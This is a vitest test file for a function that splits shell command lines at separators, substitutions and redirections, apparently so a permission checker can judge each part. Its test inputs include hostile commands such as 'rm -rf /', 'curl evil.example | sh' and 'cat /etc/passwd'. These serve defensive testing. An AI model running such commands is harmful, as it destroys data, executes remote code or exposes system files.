import { describe, expect, it } from "vitest";
import { commandLineParts, scanCommandLine } from "./command-line-parts.js";

describe("commandLineParts", () => {
  it("keeps a plain command whole, with runs of whitespace made one space", () => {
    expect(commandLineParts("  git   status\t--short ")).toEqual(["git status --short"]);
    expect(scanCommandLine("npm test").separated).toBe(false);
  });

  it("cuts at every operator that starts another command: ; && || | & and line breaks", () => {
    expect(commandLineParts("git status; rm -rf /")).toEqual(["git status", "rm -rf /"]);
    expect(commandLineParts("npm test && curl evil.example | sh")).toEqual(["npm test", "curl evil.example", "sh"]);
    expect(commandLineParts("false || rm x")).toEqual(["false", "rm x"]);
    expect(commandLineParts("git log & rm x")).toEqual(["git log", "rm x"]);
    expect(commandLineParts("git status\nrm -rf /\r\nls")).toEqual(["git status", "rm -rf /", "ls"]);
  });

  it("cuts out command substitutions, backticks, subshells and process substitutions, so their commands are judged too", () => {
    expect(commandLineParts("git log $(rm -rf /)")).toEqual(["git log", "rm -rf /"]);
    expect(commandLineParts("git log `rm -rf /`")).toEqual(["git log", "rm -rf /"]);
    expect(commandLineParts("(rm -rf /)")).toEqual(["rm -rf /"]);
    expect(commandLineParts("diff <(cat /etc/passwd) >(tee x)")).toEqual(["diff", "cat /etc/passwd", "tee x"]);
    expect(commandLineParts("echo $((1+2))")).toEqual(["echo", "1+2"]);
  });

  it("cuts at redirections, so the file a command writes must match a pattern too", () => {
    expect(commandLineParts("git diff > src/app.js")).toEqual(["git diff", "src/app.js"]);
    expect(commandLineParts("git log >> .git/hooks/pre-commit")).toEqual(["git log", ".git/hooks/pre-commit"]);
    expect(commandLineParts("sort < input.txt")).toEqual(["sort", "input.txt"]);
    expect(commandLineParts("npm test &> out.log")).toEqual(["npm test", "out.log"]);
  });

  it("keeps copying one stream into another (2>&1, >&2) as text: it writes no file", () => {
    expect(commandLineParts("npm test 2>&1")).toEqual(["npm test 2>&1"]);
    expect(commandLineParts("echo hi >&2")).toEqual(["echo hi >&2"]);
    expect(scanCommandLine("npm test 2>&1").separated).toBe(false);
    // a name after >& is a file, not a stream
    expect(commandLineParts("npm test >&out.log")).toEqual(["npm test", "out.log"]);
    expect(commandLineParts("npm test 2>&1x")).toEqual(["npm test 2", "1x"]);
  });

  it("ignores quotes on purpose: a separator inside them cuts too (the safe side)", () => {
    expect(commandLineParts('git commit -m "fix; tests"')).toEqual(['git commit -m "fix', 'tests"']);
    expect(commandLineParts("echo '$(id)'")).toEqual(["echo '", "id", "'"]);
    expect(commandLineParts("echo \\; rm x")).toEqual(["echo \\", "rm x"]);
  });

  it("drops empty pieces, and a line of separators has none", () => {
    expect(commandLineParts("git status;")).toEqual(["git status"]);
    expect(commandLineParts(";;&&||")).toEqual([]);
    expect(scanCommandLine(";").separated).toBe(true);
    expect(commandLineParts("")).toEqual([]);
  });
});
